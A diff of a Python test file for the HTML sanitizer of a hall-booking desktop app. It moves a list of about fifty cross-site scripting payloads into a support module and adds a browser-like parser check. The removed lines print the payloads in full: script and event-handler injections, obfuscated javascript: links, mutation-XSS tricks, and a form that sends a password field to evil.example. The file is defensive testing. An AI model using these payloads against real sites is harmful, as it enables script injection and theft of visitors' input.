@@ -5,8 +5,10 @@ from __future__ import annotations
 import re
 import time
 from html.parser import HTMLParser
+from typing import Final
 
 import pytest
+from bleach._vendor import html5lib
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -14,6 +16,7 @@ from hallbooking_desktop.domain.errors import ValidationFailed
 from hallbooking_desktop.domain.pages import LONGEST_SLUG, is_slug, slug_of
 from hallbooking_desktop.services.html import _ALLOWED, _ANYWHERE, clean_html
 from hallbooking_desktop.services.page_html import VOCABULARY
+from tests.support.hostile_html import HOSTILE, SWALLOWING
 
 
 @pytest.mark.parametrize(
@@ -48,58 +51,6 @@ def test_a_suggested_address_is_one(title: str) -> None:
 def test_what_is_no_address_is_refused(text: str) -> None:
     """A page could hide behind an address that nothing leads to."""
     assert not is_slug(text)
-
-
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script></script>ipt>alert(1)</scr</script>ipt>",
-    "<script>unclosed",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<p style='background:url(javascript:alert(1))' class=x id=y onclick=alert(1)>styled</p>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
-    "<img src=javascript:alert(1)>",
-    "<img src=//evil.example/pixel.gif>",
-    "<img src='http:\\\\evil.example/pixel.gif'>",
-    "<img src=/media/../users>",
-    "<img src=/media/a?b=c srcset='javascript:alert(1) 1x'>",
-    '<img src="http://a.example/b" alt="&quot; onerror=&quot;alert(1)">',
-    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=' \x01java\tscript:alert(1)'>x</a>",
-    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
-    "<a href='&#106;&#x61;vascript&#58;alert(1)'>x</a>",
-    "<a href='java\nscript:alert(1)'>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href='blob:http://x/y'>x</a><a href='file:///etc/passwd'>y</a><a href='ftp://x/y'>z</a>",
-    "<a href='https://a.example' target=_blank rel=opener ping=//evil.example>x</a>",
-    "<svg onload=alert(1)><script>alert(2)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
-    "<base href=//evil.example><meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet>",
-    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
-    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><details ontoggle=alert(1) open>",
-    "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><?php echo 1 ?>",
-    "<template><script>alert(1)</script></template><select><template><style></select><img src=x onerror=alert(1)>",
-    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
-    "<table><td background=javascript:alert(1)>x<script>alert(1)</script>",
-    "<a href=https://a.example><a href=javascript:alert(1)>nested</a></a>",
-    "<b><i><u></b></i><p><a href='#x'><h1></a></p>",
-    "<p/onclick=alert(1)>a</p><p\x0conclick=alert(1)>b</p>",
-    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "<p lang=\"x' onclick='alert(1)\" dir=up>x</p>",
-    "<custom-element onclick=alert(1)>text stays</custom-element>",
-]
 
 
 class _Reader(HTMLParser):
@@ -146,19 +97,52 @@ def check_clean(html: str) -> None:
     assert clean_html(html) == html
 
 
+#: As parsers call what is plain HTML, and neither SVG nor MathML.
+_HTML: Final = "{http://www.w3.org/1999/xhtml}"
+_LEADS: Final = re.compile(r"(?:https?:|mailto:|tel:)|[^:]*$|[^:]*[/?#]", re.IGNORECASE)
+
+
+def check_harmless(html: str) -> None:
+    """Fail unless a parser that reads as browsers do finds nothing in it that could run or load."""
+    tree = html5lib.parse(f"<!doctype html><body>{html}")
+    body = tree.find(f"{_HTML}body")
+    for element in body.iter():
+        assert isinstance(element.tag, str), f"a comment: {html}"
+        assert element.tag.startswith(_HTML), html
+        tag = element.tag.removeprefix(_HTML)
+        assert tag == "body" or tag in VOCABULARY, html
+        for name, value in element.attrib.items():
+            assert (tag, name) == ("a", "rel") or name in _ANYWHERE or (tag, name) in _ALLOWED, html
+            if name in {"href", "src"}:
+                # Browsers pass over these.
+                assert _LEADS.match(re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", value)), html
+
+
 @pytest.mark.parametrize("typed", HOSTILE)
 def test_nothing_hostile_is_left(typed: str) -> None:
     """A page could run a stranger's program in the lobby, or send what visitors type elsewhere."""
     for html in (typed, f"<p>before {typed} after</p>", typed.replace("'", '"'), f"<table><tr><td>{typed}"):
         cleaned = clean_html(html)
         check_clean(cleaned)
+        check_harmless(cleaned)
         assert "<script" not in cleaned.lower()
+
+
+@pytest.mark.parametrize("typed", HOSTILE)
+def test_what_is_good_beside_it_stays(typed: str) -> None:
+    """One bad line that somebody pasted would take the rest of the page with it."""
+    cleaned = clean_html(f"<h2>First</h2>{typed}<p>Last <b>words</b></p>")
+    check_harmless(cleaned)
+    assert cleaned.startswith("<h2>First</h2>")
+    assert typed in SWALLOWING or "Last words" in re.sub("<[^>]*>", "", cleaned)
 
 
 @given(st.lists(st.sampled_from([*HOSTILE, "</p>", "<p>", "</style>", "-->", "<!--", "'", '"', ">", "<"]), max_size=6))
 def test_pieces_of_hostile_pages_put_together_are_clean_too(pieces: list[str]) -> None:
     """Two harmless halves could make a harmful whole."""
-    check_clean(clean_html("".join(pieces)))
+    cleaned = clean_html("".join(pieces))
+    check_clean(cleaned)
+    check_harmless(cleaned)
 
 
 @given(st.text(max_size=200))
